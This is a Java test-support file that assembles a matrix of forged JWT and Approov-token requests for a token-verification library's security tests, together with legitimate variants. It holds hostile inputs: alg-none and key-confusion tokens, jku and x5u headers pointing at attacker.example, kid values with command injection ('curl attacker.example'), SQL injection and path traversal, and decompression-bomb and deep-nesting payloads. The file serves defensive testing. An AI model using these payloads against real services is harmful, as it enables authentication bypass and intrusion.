package io.github.approovjaxrs;

import io.github.approovjaxrs.core.ApproovConfig;
import io.github.approovjaxrs.core.ApproovListener;
import io.github.approovjaxrs.testing.ApproovTokens;
import io.github.approovjaxrs.testing.MessageSignature;
import io.github.approovjaxrs.testing.TestKeys;
import static io.github.approovjaxrs.TestSecret.SECRET;
import static io.github.approovjaxrs.testing.ApproovTokens.HS256_HEADER;
import static io.github.approovjaxrs.testing.ApproovTokens.b64url;
import static io.github.approovjaxrs.testing.ApproovTokens.pay;
import static io.github.approovjaxrs.testing.ApproovTokens.sign;

import java.io.ByteArrayOutputStream;
import java.net.URI;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.MessageDigest;
import java.security.PrivateKey;
import java.security.Signature;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Predicate;
import java.util.zip.Deflater;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.glassfish.jersey.server.ResourceConfig;

/**
 * The hostile requests of the security proof (SECURITY.md), grouped by class, and the legitimate variants
 * that must still pass. Shared by {@link AttackMatrixTest} (what each request gets) and
 * {@link LogHygieneTest} (what the logs say meanwhile).
 *
 * <p>Sources of the cases: RFC 8725 (JWT best current practices), the attack list of {@code ticarpi/jwt_tool}
 * (alg none in every casing, null and blank signatures, key confusion, embedded {@code jwk}, {@code jku} and
 * {@code x5u} spoofing, {@code kid} injection, psychic ECDSA signatures), and the CVE history of Java JWT
 * libraries: jose4j's PBES2 {@code p2c} (CVE-2023-51775) and compressed-JWE (CVE-2024-29371) denial of
 * service, Nimbus's deeply nested JSON (CVE-2025-53864), jjwt's lenient key decoding (CVE-2024-31033),
 * pac4j's JWE-wrapped {@code alg: none} (CVE-2021-44878), and Java's own psychic signatures (CVE-2022-21449).
 * Every token is minted here from a known secret or key; nothing is a committed blob.
 *
 * The message-signing class follows RFC 9421 and MESSAGE-SIGNING.md's rules M1–M14 and the reference servers'
 * known faults; every signature is made here with a generated P-256 installation key.
 *
 * <p>Three servers answer: {@link Target#DEFAULT}, the zero-configuration setup (one HS256 account secret),
 * {@link Target#HARDENED}, a key set (an HS256 secret with a key id, an RS256 and an ES256 public key) with
 * an expected audience, for key-confusion, psychic-signature and audience cases, and {@link Target#SIGNED},
 * the account secret with message signing behind a TLS proxy ({@link #SIGNED_ORIGIN}) requiring a covered
 * {@code Content-Digest} on any body, for the message-signing cases.
 */
final class AttackMatrix {

    private static KeyPair keyWithUrlUnsafeBase64() {
        while (true) {
            KeyPair key = TestKeys.ec("secp256r1");
            String ipk = ApproovTokens.ipk(key.getPublic());
            if (ipk.indexOf('+') >= 0 || ipk.indexOf('/') >= 0) {
                return key;
            }
        }
    }

    /** The order n of the P-256 group (SEC 2, FIPS 186-4): a signature with r or s of n is "psychic". */
    private static final java.math.BigInteger P256_ORDER = new java.math.BigInteger(
            "FFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551", 16);

    /** Which server a request goes to. */
    enum Target {
        DEFAULT,
        HARDENED,
        SIGNED
    }

    /**
     * One request: where it goes, its header lines (name, value pairs), its body (UTF-8 text; null for none)
     * and the statuses it may get.
     */
    record Request(String group, String name, Target target, String method, String path, List<String> headers,
            Set<Integer> allowedStatuses, String body) {
        @Override
        public String toString() {
            return group + ": " + name;
        }

        /** The header values, for the log-hygiene test's list of things no log line may contain. */
        List<String> headerValues() {
            List<String> values = new ArrayList<>();
            for (int i = 1; i < headers.size(); i += 2) {
                values.add(headers.get(i));
            }
            return values;
        }

        /** What makes two requests the same request: everything but the name. */
        List<Object> identity() {
            return Arrays.asList(target, method, path, headers, body);
        }
    }

    static final Set<Integer> REFUSED = Set.of(401);
    /** Grizzly's own answer to a header block over its limit (8 KB): 400, before any filter runs. */
    static final Set<Integer> REFUSED_OR_TOO_LARGE = Set.of(401, 400, 413, 431);
    /** A path the router does not match never reaches a resource: 404 is as safe as 401. */
    static final Set<Integer> REFUSED_OR_NOT_FOUND = Set.of(401, 404);
    static final Set<Integer> OK = Set.of(200);

    /** The message-signing server's refusal of a body over its limit, before the resource reads it. */
    static final Set<Integer> TOO_LARGE = Set.of(413);

    static final String PROTECTED = "/methods/protected";
    static final String BOUND = "/methods/bound";
    static final String BEARER = "Bearer 0123456789abcdef";
    static final String AUDIENCE = "api.example.com";
    static final String HS_KID = "hs-1";
    static final String RSA_KID = "rsa-1";
    static final String EC_KID = "ec-1";
    /** {@link ApproovSignedFeatureTest.SignedResource}: {@code @ApproovSigned} GET and POST, and a bound one. */
    static final String SIGNED = "/signed";
    static final String SIGNED_ALL = "/signed/all";
    /** The origin clients of {@link Target#SIGNED} sign, as behind a TLS proxy. */
    static final String SIGNED_ORIGIN = "https://api.example.com";
    static final int MAX_BODY_BYTES = 1024;


    static final byte[] ATTACKER_SECRET = "attacker-secret-attacker-secret!".getBytes(StandardCharsets.US_ASCII);
    static final KeyPair RSA = TestKeys.rsa(2048);
    static final KeyPair EC = TestKeys.ec("secp256r1");
    static final KeyPair ATTACKER_RSA = TestKeys.rsa(2048);
    static final KeyPair ATTACKER_EC = TestKeys.ec("secp256r1");
    /** The app installation's key pair of the message-signing cases (its public key is the tokens' ipk). */
    /** The device's key; its base64 has a '+' or '/', so the case "ipk in base64url" really differs from the ipk. */
    static final KeyPair DEVICE = keyWithUrlUnsafeBase64();

    final List<Request> attacks = new ArrayList<>();
    final List<Request> legitimate = new ArrayList<>();
    private final long now;
    private final String exp;
    private final String claims;
    private final String valid;
    private final String[] parts;
    private String group;

    /** The configuration of a target; {@code logging} on for the log-hygiene test, {@code monitor} for monitor mode. */
    static ApproovConfig config(Target target, boolean logging, boolean monitor) {
        ApproovConfig.Builder builder = switch (target) {
            case DEFAULT -> ApproovConfig.builder().secret(SECRET);
            case HARDENED -> ApproovConfig.builder()
                    .addSecret(HS_KID, SECRET)
                    .addPublicKey("RS256", RSA_KID, RSA.getPublic())
                    .addPublicKey("ES256", EC_KID, EC.getPublic())
                    .expectedAudience(AUDIENCE);
            // The public origin makes signatures independent of the test server's port; the hour-long maximum
            // age keeps the legitimate signatures valid however long a slow machine takes over the matrix.
            case SIGNED -> ApproovConfig.builder().secret(SECRET).publicOrigin(SIGNED_ORIGIN)
                    .signatureMaxAge(java.time.Duration.ofHours(1)).requireContentDigest(true).maxBodyBytes(MAX_BODY_BYTES);
        };
        return builder.loggingEnabled(logging).abortOnInvalidToken(!monitor).abortOnInvalidBinding(!monitor)
                .abortOnInvalidMessageSignature(!monitor).build();
    }

    /**
     * The application a target serves: {@link ApproovFeatureTest.MethodLevel}'s open, protected and bound
     * endpoints and {@link ApproovSignedFeatureTest.SignedResource}'s signed ones, with {@code listener}
     * hearing each decision.
     */
    static ResourceConfig application(Target target, boolean logging, boolean monitor, ApproovListener listener) {
        return new ResourceConfig(ApproovFeatureTest.MethodLevel.class, ApproovSignedFeatureTest.SignedResource.class)
                .register(ApproovFeature.builder(config(target, logging, monitor)).listener(listener).build());
    }

    /** Sends {@code request} to its target (a generous per-request timeout bounds the wait: see {@link RawHttp}). */
    static HttpResponse<String> send(Request request, Map<Target, JerseyServer> servers) {
        String base = servers.get(request.target()).uri("/").toString();
        URI uri = URI.create(base.substring(0, base.length() - 1) + request.path());
        return RawHttp.send(uri, request.method(), request.body() == null ? null
                : request.body().getBytes(StandardCharsets.UTF_8), request.headers().toArray(String[]::new));
    }

    /** The matrix for tokens minted now (the servers judge them by the real clock). */
    AttackMatrix() {
        this(Instant.now().getEpochSecond());
    }

    /** The matrix as minted at {@code now} (epoch seconds). */
    AttackMatrix(long now) {
        this.now = now;
        this.exp = "\"exp\":" + (now + 3600);
        this.claims = "{" + exp + "}";
        this.valid = sign(HS256_HEADER, claims, SECRET);
        this.parts = valid.split("\\.");
        algorithms();
        keysAndHeaderParameters();
        keyConfusionAndPsychicSignatures();
        signatureAndStructure();
        nonCanonicalBase64url();
        claimsAndTime();
        audience();
        jweAndNesting();
        transport();
        binding();
        size();
        routing();
        messageSigning();
        legitimateVariants();
        legitimateSignedVariants();
    }

    // ---- the hostile requests, by class ----

    private void algorithms() {
        group = "algorithm";
        String payload = b64url(claims);
        for (String none : List.of("none", "None", "NONE", "nOnE")) {
            attack("alg " + none + ", signature stripped (jwt_tool -X a)",
                    b64url("{\"alg\":\"" + none + "\",\"typ\":\"JWT\"}") + "." + payload + ".");
        }
        attack("alg none, no third segment", b64url("{\"alg\":\"none\"}") + "." + payload);
        attack("alg none, the original HS256 signature kept", b64url("{\"alg\":\"none\"}") + "." + payload + "." + parts[2]);
        attack("alg none, MAC'd with the real secret", sign("{\"alg\":\"none\"}", claims, SECRET));
        attack("alg none spelled with a \\u escape", sign("{\"alg\":\"\\u006eone\"}", claims, SECRET));
        attack("alg HS384, a real HMAC-SHA384 with the secret", macToken("{\"alg\":\"HS384\"}", claims, SECRET, "HmacSHA384"));
        attack("alg HS512, a real HMAC-SHA512 with the secret", macToken("{\"alg\":\"HS512\"}", claims, SECRET, "HmacSHA512"));
        attack("alg hs256 in lower case", sign("{\"alg\":\"hs256\"}", claims, SECRET));
        attack("alg with a trailing space", sign("{\"alg\":\"HS256 \"}", claims, SECRET));
        attack("alg with a NUL suffix", sign("{\"alg\":\"HS256\\u0000\"}", claims, SECRET));
        attack("alg missing", sign("{\"typ\":\"JWT\"}", claims, SECRET));
        attack("alg null", sign("{\"alg\":null}", claims, SECRET));
        attack("alg an array", sign("{\"alg\":[\"HS256\"]}", claims, SECRET));
        attack("alg a number", sign("{\"alg\":256}", claims, SECRET));
        attack("alg twice, none then HS256", sign("{\"alg\":\"none\",\"alg\":\"HS256\"}", claims, SECRET));
        attack("alg twice, HS256 then none", sign("{\"alg\":\"HS256\",\"alg\":\"none\"}", claims, SECRET));
        attack("alg RS256 with an HMAC signature", sign("{\"alg\":\"RS256\"}", claims, SECRET));
        attack("alg PS256 with an attacker's signature", asymmetric("{\"alg\":\"PS256\"}", claims, ATTACKER_RSA.getPrivate(), "PS256"));
        attack("alg ES256, psychic signature (r = s = 0) on an HS256-only server",
                b64url("{\"alg\":\"ES256\"}") + "." + payload + "." + b64url(new byte[64]));
        attack("alg dir (a JWE algorithm) in a JWS", sign("{\"alg\":\"dir\"}", claims, SECRET));
        attack("alg PBES2 with p2c 2^31-1 in a JWS", sign("{\"alg\":\"PBES2-HS256+A128KW\",\"p2c\":2147483647,\"p2s\":\"AAAA\"}",
                claims, SECRET));
    }

    private void keysAndHeaderParameters() {
        group = "key and header tricks";
        attack("embedded oct jwk, signed with that key (jwt_tool -X i)", sign("{\"alg\":\"HS256\",\"jwk\":{\"kty\":\"oct\",\"k\":\""
                + b64url(ATTACKER_SECRET) + "\"}}", claims, ATTACKER_SECRET));
        attack("embedded RSA jwk, RS256 signed with its private key", asymmetric("{\"alg\":\"RS256\",\"jwk\":"
                + rsaJwk(ATTACKER_RSA) + "}", claims, ATTACKER_RSA.getPrivate(), "RS256"));
        attack("jku pointing at attacker keys (jwt_tool -X s)", sign("{\"alg\":\"HS256\",\"jku\":\"https://attacker.example/jwks.json\"}",
                claims, ATTACKER_SECRET));
        attack("x5u pointing at an attacker certificate", sign("{\"alg\":\"HS256\",\"x5u\":\"https://attacker.example/cert.pem\"}",
                claims, ATTACKER_SECRET));
        attack("x5c with an attacker key, RS256", asymmetric("{\"alg\":\"RS256\",\"x5c\":[\""
                + Base64.getEncoder().encodeToString(ATTACKER_RSA.getPublic().getEncoded()) + "\"]}", claims,
                ATTACKER_RSA.getPrivate(), "RS256"));
        // An empty HMAC key is padded with zeros, so the one-zero-byte key computes exactly the empty key's MAC.
        attack("kid path traversal to /dev/null, signed with an empty key", sign("{\"alg\":\"HS256\",\"kid\":\"../../../../../../dev/null\"}",
                claims, new byte[1]));
        attack("kid SQL injection selecting a known key", sign("{\"alg\":\"HS256\",\"kid\":\"x' UNION SELECT 'attacker-key'--\"}",
                claims, "attacker-key".getBytes(StandardCharsets.US_ASCII)));
        attack("kid command injection", sign("{\"alg\":\"HS256\",\"kid\":\"key.pem|curl attacker.example\"}", claims, ATTACKER_SECRET));
        attack("kid of 3000 characters", sign("{\"alg\":\"HS256\",\"kid\":\"" + "k".repeat(3000) + "\"}", claims, ATTACKER_SECRET));
        attack("blank secret (jwt_tool -X b)", sign(HS256_HEADER, claims, new byte[1]));
        attack("Approov's public dummy secret", sign(HS256_HEADER, claims, Base64.getDecoder().decode(ApproovTokens.DUMMY_SECRET_BASE64)));
        attack("a dictionary secret: secret", sign(HS256_HEADER, claims, "secret".getBytes(StandardCharsets.US_ASCII)));
        attack("jwt.io's default secret", sign(HS256_HEADER, claims, "your-256-bit-secret".getBytes(StandardCharsets.US_ASCII)));
        attack("the secret's base64 text used as the key", sign(HS256_HEADER, claims,
                Base64.getEncoder().encodeToString(SECRET).getBytes(StandardCharsets.US_ASCII)));
        attack("the secret's hex text used as the key", sign(HS256_HEADER, claims,
                HexFormat.of().formatHex(SECRET).getBytes(StandardCharsets.US_ASCII)));
        attack("the secret with one byte changed (lenient decoding, jjwt CVE-2024-31033)", sign(HS256_HEADER, claims, flipLastByte(SECRET)));
        attack("the secret truncated to 31 bytes", sign(HS256_HEADER, claims, Arrays.copyOf(SECRET, 31)));
        attack("crit naming exp, with the real secret", sign("{\"alg\":\"HS256\",\"crit\":[\"exp\"],\"exp\":1}", claims, SECRET));
        attack("crit empty, with the real secret", sign("{\"alg\":\"HS256\",\"crit\":[]}", claims, SECRET));
        attack("b64 false without crit, with the real secret", sign("{\"alg\":\"HS256\",\"b64\":false}", claims, SECRET));
        attack("b64 false with crit, unencoded payload (RFC 7797)", unencodedPayloadToken());
        attack("zip DEF on a JWS, deflated payload, with the real secret",
                signBytes("{\"alg\":\"HS256\",\"zip\":\"DEF\"}".getBytes(StandardCharsets.UTF_8), deflate(claims), SECRET));
        attack("typ and cty both JWT, signed with the real secret, plain payload", sign("{\"alg\":\"HS256\",\"typ\":\"JWT\",\"cty\":\"JWT\"}",
                claims, SECRET));
        attack("header parameter names duplicated (typ twice)", sign("{\"alg\":\"HS256\",\"typ\":\"JWT\",\"typ\":\"JWT\"}", claims, SECRET));
    }

    private void keyConfusionAndPsychicSignatures() {
        group = "key confusion and psychic signatures";
        String audClaims = "{" + exp + ",\"aud\":\"" + AUDIENCE + "\"}";
        String payload = b64url(audClaims);
        byte[] rsaDer = RSA.getPublic().getEncoded();
        byte[] rsaPem = TestKeys.pem(RSA.getPublic()).getBytes(StandardCharsets.US_ASCII);
        byte[] ecPem = TestKeys.pem(EC.getPublic()).getBytes(StandardCharsets.US_ASCII);
        hardened("HS256 MAC'd with the RSA public key's DER as the secret (RS/HS confusion)",
                sign("{\"alg\":\"HS256\"}", audClaims, rsaDer));
        hardened("HS256 MAC'd with the RSA public key's PEM text (jwt_tool -X k)", sign("{\"alg\":\"HS256\"}", audClaims, rsaPem));
        hardened("HS256 with the RSA key's kid, MAC'd with its PEM text", sign("{\"alg\":\"HS256\",\"kid\":\"" + RSA_KID + "\"}",
                audClaims, rsaPem));
        hardened("HS256 MAC'd with the EC public key's PEM text", sign("{\"alg\":\"HS256\"}", audClaims, ecPem));
        hardened("RS256 naming the HMAC secret's kid", asymmetric("{\"alg\":\"RS256\",\"kid\":\"" + HS_KID + "\"}", audClaims,
                ATTACKER_RSA.getPrivate(), "RS256"));
        hardened("RS256 signed by another RSA key, with the configured kid", asymmetric("{\"alg\":\"RS256\",\"kid\":\"" + RSA_KID
                + "\"}", audClaims, ATTACKER_RSA.getPrivate(), "RS256"));
        hardened("PS256 signed with the configured RS256 key (algorithm bound to the key)",
                asymmetric("{\"alg\":\"PS256\"}", audClaims, RSA.getPrivate(), "PS256"));
        hardened("RS256 signature one byte short", dropLastSignatureByte(asymmetric("{\"alg\":\"RS256\"}", audClaims,
                RSA.getPrivate(), "RS256")));
        hardened("ES256 psychic signature r = s = 0 (CVE-2022-21449)", b64url("{\"alg\":\"ES256\",\"kid\":\"" + EC_KID + "\"}")
                + "." + payload + "." + b64url(new byte[64]));
        hardened("ES256 psychic signature r = s = n (the group order)", b64url("{\"alg\":\"ES256\"}") + "." + payload + "."
                + b64url(concat(unsigned32(P256_ORDER), unsigned32(P256_ORDER))));
        hardened("ES256 signed by another EC key", asymmetric("{\"alg\":\"ES256\"}", audClaims, ATTACKER_EC.getPrivate(), "ES256"));
        hardened("ES256 signature in DER instead of r||s", derEs256(audClaims));
        hardened("ES256 with an embedded attacker jwk", asymmetric("{\"alg\":\"ES256\",\"jwk\":{\"kty\":\"EC\",\"crv\":\"P-256\"}}",
                audClaims, ATTACKER_EC.getPrivate(), "ES256"));
        hardened("alg none on the key-set server", b64url("{\"alg\":\"none\"}") + "." + payload + ".");
    }

    private void signatureAndStructure() {
        group = "signature and structure damage";
        attack("signature removed, dot kept (null signature)", parts[0] + "." + parts[1] + ".");
        attack("two segments", parts[0] + "." + parts[1]);
        attack("signature of another token", parts[0] + "." + b64url("{" + exp + ",\"admin\":true}") + "." + parts[2]);
        attack("signature truncated to 42 characters", parts[0] + "." + parts[1] + "." + parts[2].substring(0, 42));
        attack("signature with 4 characters appended", valid + "AAAA");
        attack("signature all zero bytes", parts[0] + "." + parts[1] + "." + b64url(new byte[32]));
        attack("signature with its first character changed", parts[0] + "." + parts[1] + "." + flipFirst(parts[2]));
        attack("signature in hex", parts[0] + "." + parts[1] + "." + HexFormat.of().formatHex(Base64.getUrlDecoder().decode(parts[2])));
        attack("header and payload swapped", parts[1] + "." + parts[0] + "." + parts[2]);
        attack("a fourth segment", valid + "." + parts[1]);
        attack("a trailing dot", valid + ".");
        attack("a leading dot", "." + valid);
        attack("an empty segment between header and payload", parts[0] + ".." + parts[1] + "." + parts[2]);
        attack("only dots", "...");
        attack("raw JSON instead of base64url", HS256_HEADER + "." + claims + "." + parts[2]);
        attack("header not JSON", sign("alg=HS256", claims, SECRET));
        attack("payload not JSON", sign(HS256_HEADER, "exp=" + (now + 3600), SECRET));
        attack("header a JSON array", sign("[\"HS256\"]", claims, SECRET));
        attack("payload a JSON string", sign(HS256_HEADER, "\"" + exp + "\"", SECRET));
        attack("payload with a byte order mark", sign(HS256_HEADER, "\uFEFF" + claims, SECRET));
        attack("payload of invalid UTF-8", signBytes(HS256_HEADER.getBytes(StandardCharsets.UTF_8), concat(("{" + exp
                + ",\"s\":\"").getBytes(StandardCharsets.UTF_8), new byte[] {(byte) 0xC3, (byte) 0x28}, "\"}".getBytes(StandardCharsets.UTF_8)),
                SECRET));
        attack("payload of overlong UTF-8", signBytes(HS256_HEADER.getBytes(StandardCharsets.UTF_8), concat(("{" + exp
                + ",\"s\":\"").getBytes(StandardCharsets.UTF_8), new byte[] {(byte) 0xC0, (byte) 0xAF}, "\"}".getBytes(StandardCharsets.UTF_8)),
                SECRET));
        attack("arrays nested 2000 deep (Nimbus CVE-2025-53864)", sign(HS256_HEADER, "{" + exp + ",\"a\":" + "[".repeat(2000)
                + "]".repeat(2000) + "}", SECRET));
        attack("objects nested 800 deep", sign(HS256_HEADER, "{" + exp + ",\"a\":" + "{\"a\":".repeat(800) + "1"
                + "}".repeat(800) + "}", SECRET));
        attack("payload with a trailing comma", sign(HS256_HEADER, "{" + exp + ",}", SECRET));
        attack("payload with a leading-zero number", sign(HS256_HEADER, "{" + exp + ",\"n\":007}", SECRET));
        attack("payload with a raw control character", sign(HS256_HEADER, "{" + exp + ",\"s\":\"a\u0001b\"}", SECRET));
        attack("payload with a single-quoted name", sign(HS256_HEADER, "{'exp':" + (now + 3600) + "}", SECRET));
        attack("payload followed by a second object", sign(HS256_HEADER, claims + "{}", SECRET));
        attack("JWS JSON serialization (flattened) as the header value", "{\"protected\":\"" + parts[0] + "\",\"payload\":\""
                + parts[1] + "\",\"signature\":\"" + parts[2] + "\"}");
        attack("the literal null", "null");
        attack("the literal undefined", "undefined");
        attack("the whole token base64-encoded once more", b64url(valid));
    }

    private void nonCanonicalBase64url() {
        group = "non-canonical base64url";
        String dashed = findValid(t -> t.split("\\.")[2].matches(".*[-_].*"));
        String[] d = dashed.split("\\.");
        String payloadDashed = findValid(t -> t.split("\\.")[1].matches(".*[-_].*"));
        String[] p = payloadDashed.split("\\.");
        String oddPayload = findValid(t -> t.split("\\.")[1].length() % 4 != 0);
        String[] o = oddPayload.split("\\.");
        String oddHeader = findToken(i -> sign("{\"alg\":\"HS256\",\"kid\":\"" + "k".repeat(i) + "\"}", claims, SECRET),
                t -> t.split("\\.")[0].length() % 4 != 0);
        String[] h = oddHeader.split("\\.");
        attack("signature padded with =", valid + "=");
        attack("payload padded with ==", o[0] + "." + o[1] + "=".repeat(4 - o[1].length() % 4) + "." + o[2]);
        attack("header padded with =", h[0] + "=".repeat(4 - h[0].length() % 4) + "." + h[1] + "." + h[2]);
        attack("signature in the standard alphabet (+ and /)", d[0] + "." + d[1] + "." + d[2].replace('-', '+').replace('_', '/'));
        attack("payload in the standard alphabet (+ and /)", p[0] + "." + p[1].replace('-', '+').replace('_', '/') + "." + p[2]);
        attack("signature with non-zero trailing bits (same bytes to a lenient decoder)", parts[0] + "." + parts[1] + "."
                + withTrailingBits(parts[2]));
        attack("payload with non-zero trailing bits", o[0] + "." + withTrailingBits(o[1]) + "." + o[2]);
        attack("header with non-zero trailing bits", withTrailingBits(h[0]) + "." + h[1] + "." + h[2]);
        attack("signature in standard base64 with padding", d[0] + "." + d[1] + "."
                + Base64.getEncoder().encodeToString(Base64.getUrlDecoder().decode(d[2])));
        attack("a space inside the signature", parts[0] + "." + parts[1] + "." + parts[2].substring(0, 20) + " " + parts[2].substring(20));
        attack("a tab inside the payload", parts[0] + "." + parts[1].substring(0, 10) + "\t" + parts[1].substring(10) + "." + parts[2]);
        attack("percent-encoded dot", parts[0] + "%2E" + parts[1] + "." + parts[2]);
        attack("percent-encoded padding appended", valid + "%3D");
        attack("a segment of length 1 mod 4", parts[0] + "." + parts[1] + "A." + parts[2]);
        attack("a Latin-1 letter inside the payload", parts[0] + "." + parts[1].substring(0, 5) + "\u00e9" + parts[1].substring(5) + "."
                + parts[2]);
    }

    private void claimsAndTime() {
        group = "claims";
        String[] malformedExp = {"\"" + (now + 3600) + "\"", "null", "true", "[" + (now + 3600) + "]", "{\"v\":" + (now + 3600) + "}",
            "0", "-1", "-0", "1e300", "9007199254740993", "9".repeat(5000), "1e999999999999", "1e-7"};
        String[] names = {"a string", "null", "true", "an array", "an object", "zero", "negative", "minus zero", "1e300",
            "2^53 + 1", "5000 digits", "1e999999999999 (beyond BigDecimal)", "1e-7 (1970)"};
        for (int i = 0; i < malformedExp.length; i++) {
            attack("exp " + names[i], sign(HS256_HEADER, "{\"exp\":" + malformedExp[i] + "}", SECRET));
        }
        attack("exp missing", sign(HS256_HEADER, "{\"iat\":" + now + "}", SECRET));
        attack("empty claims", sign(HS256_HEADER, "{}", SECRET));
        attack("exp a second ago", sign(HS256_HEADER, "{\"exp\":" + (now - 1) + "}", SECRET));
        attack("exp half a second ago", sign(HS256_HEADER, "{\"exp\":" + (now - 1) + ".5}", SECRET));
        attack("exp in 1970", sign(HS256_HEADER, "{\"exp\":1}", SECRET));
        attack("exp twice, past then future", sign(HS256_HEADER, "{\"exp\":1," + exp + "}", SECRET));
        attack("exp twice, future then past", sign(HS256_HEADER, "{" + exp + ",\"exp\":1}", SECRET));
        attack("exp only in the header", sign("{\"alg\":\"HS256\"," + exp + "}", "{\"iat\":" + now + "}", SECRET));
        attack("exp with a plus sign (not JSON)", sign(HS256_HEADER, "{\"exp\":+" + (now + 3600) + "}", SECRET));
        attack("exp in hex (not JSON)", sign(HS256_HEADER, "{\"exp\":0x7fffffff}", SECRET));
        attack("exp Infinity (not JSON)", sign(HS256_HEADER, "{\"exp\":Infinity}", SECRET));
        attack("exp NaN (not JSON)", sign(HS256_HEADER, "{\"exp\":NaN}", SECRET));
        attack("nbf an hour ahead", sign(HS256_HEADER, "{" + exp + ",\"nbf\":" + (now + 3600) + "}", SECRET));
        attack("nbf 1e300", sign(HS256_HEADER, "{" + exp + ",\"nbf\":1e300}", SECRET));
        attack("nbf a string", sign(HS256_HEADER, "{" + exp + ",\"nbf\":\"" + now + "\"}", SECRET));
        attack("nbf null", sign(HS256_HEADER, "{" + exp + ",\"nbf\":null}", SECRET));
        attack("nbf of 5000 digits", sign(HS256_HEADER, "{" + exp + ",\"nbf\":" + "9".repeat(5000) + "}", SECRET));
        attack("iat a string", sign(HS256_HEADER, "{" + exp + ",\"iat\":\"yesterday\"}", SECRET));
        attack("aud a number", sign(HS256_HEADER, "{" + exp + ",\"aud\":1}", SECRET));
        attack("aud an array holding a number", sign(HS256_HEADER, "{" + exp + ",\"aud\":[\"a\",1]}", SECRET));
        attack("aud an object", sign(HS256_HEADER, "{" + exp + ",\"aud\":{}}", SECRET));
    }

    private void audience() {
        group = "audience (expected audience configured)";
        String[] auds = {null, "\"other.example.com\"", "\"API.EXAMPLE.COM\"", "[\"other.example.com\"]", "[]", "\"" + AUDIENCE + " \"",
            "\"api.example\"", "null", "\"" + AUDIENCE + ".attacker.example\""};
        String[] names = {"aud missing", "aud another API", "aud in other case", "aud array without ours", "aud empty array",
            "aud with a trailing space", "aud a prefix of ours", "aud null", "aud ours as a subdomain prefix"};
        for (int i = 0; i < auds.length; i++) {
            hardened(names[i] + ", genuinely signed", sign("{\"alg\":\"HS256\",\"kid\":\"" + HS_KID + "\"}", "{" + exp
                    + (auds[i] == null ? "" : ",\"aud\":" + auds[i]) + "}", SECRET));
        }
        hardened("aud of another API, RS256 genuinely signed", asymmetric("{\"alg\":\"RS256\"}", "{" + exp
                + ",\"aud\":\"other.example.com\"}", RSA.getPrivate(), "RS256"));
    }

    private void jweAndNesting() {
        group = "JWE and nesting";
        byte[] iv = new byte[12];
        byte[] tag = new byte[16];
        attack("five-segment JWE, dir + A128GCM", b64url("{\"alg\":\"dir\",\"enc\":\"A128GCM\"}") + ".." + b64url(iv) + "."
                + b64url("ciphertext") + "." + b64url(tag));
        attack("JWE with PBES2 p2c 2^31-1 (jose4j CVE-2023-51775)", b64url("{\"alg\":\"PBES2-HS256+A128KW\",\"enc\":\"A128CBC-HS256\","
                + "\"p2c\":2147483647,\"p2s\":\"" + b64url(new byte[16]) + "\"}") + "." + b64url(new byte[40]) + "." + b64url(new byte[16])
                + "." + b64url(new byte[32]) + "." + b64url(new byte[16]));
        attack("compressed JWE, zip DEF bomb (jose4j CVE-2024-29371)", b64url("{\"alg\":\"dir\",\"enc\":\"A128GCM\",\"zip\":\"DEF\"}")
                + ".." + b64url(iv) + "." + b64url(deflate("0".repeat(200_000))) + "." + b64url(tag));
        attack("JWE wrapping an alg none token (pac4j CVE-2021-44878)", b64url("{\"alg\":\"dir\",\"enc\":\"A128GCM\",\"cty\":\"JWT\"}")
                + ".." + b64url(iv) + "." + b64url(b64url("{\"alg\":\"none\"}") + "." + b64url(claims) + ".") + "." + b64url(tag));
        attack("JWE with RSA-OAEP", b64url("{\"alg\":\"RSA-OAEP\",\"enc\":\"A256GCM\"}") + "." + b64url(new byte[256]) + "."
                + b64url(iv) + "." + b64url("x") + "." + b64url(tag));
        attack("a genuine token with two more segments", valid + "." + parts[1] + "." + parts[2]);
        attack("JWE header (enc) in a three-segment token, with the real secret", sign("{\"alg\":\"HS256\",\"enc\":\"A128GCM\"}", claims,
                SECRET));
        attack("nested JWS: cty JWT around a genuine token, outer with the real secret", sign("{\"alg\":\"HS256\",\"cty\":\"JWT\"}",
                valid, SECRET));
        attack("nested JWS: cty JWT around a genuine token, outer alg none", b64url("{\"alg\":\"none\",\"cty\":\"JWT\"}") + "."
                + b64url(valid) + ".");
        attack("nested JWS: cty JWT around a genuine token, outer by the attacker", sign("{\"alg\":\"HS256\",\"cty\":\"JWT\"}", valid,
                ATTACKER_SECRET));
        attack("JWS general JSON serialization", "{\"payload\":\"" + parts[1] + "\",\"signatures\":[{\"protected\":\"" + parts[0]
                + "\",\"signature\":\"" + parts[2] + "\"}]}");
    }

    private void transport() {
        group = "transport";
        add(PROTECTED, "GET", REFUSED, Target.DEFAULT, "no token header");
        add(PROTECTED, "GET", REFUSED, Target.DEFAULT, "empty token header", "Approov-Token", "");
        add(PROTECTED, "GET", REFUSED, Target.DEFAULT, "whitespace-only token header", "Approov-Token", "   ");
        add(PROTECTED, "GET", REFUSED, Target.DEFAULT, "two lines, both the genuine token", "Approov-Token", valid, "Approov-Token", valid);
        add(PROTECTED, "GET", REFUSED, Target.DEFAULT, "two lines, genuine then garbage", "Approov-Token", valid, "Approov-Token", "x");
        add(PROTECTED, "GET", REFUSED, Target.DEFAULT, "two lines, garbage then genuine", "Approov-Token", "x", "Approov-Token", valid);
        add(PROTECTED, "GET", REFUSED, Target.DEFAULT, "two lines with names in different case", "approov-token", valid,
                "APPROOV-TOKEN", valid);
        add(PROTECTED, "GET", REFUSED, Target.DEFAULT, "two lines, expired then genuine", "Approov-Token",
                sign(HS256_HEADER, "{\"exp\":" + (now - 10) + "}", SECRET), "Approov-Token", valid);
        add(PROTECTED, "GET", REFUSED, Target.DEFAULT, "fifty token lines", repeat("Approov-Token", valid, 50));
        attack("two tokens comma-joined in one line", valid + "," + valid);
        attack("two tokens comma-space-joined in one line", valid + ", " + valid);
        attack("Bearer prefix", "Bearer " + valid);
        attack("bearer prefix in lower case", "bearer " + valid);
        attack("Approov prefix", "Approov " + valid);
        attack("token in double quotes", "\"" + valid + "\"");
        add(PROTECTED + "?Approov-Token=" + valid, "GET", REFUSED, Target.DEFAULT, "token in the query string only");
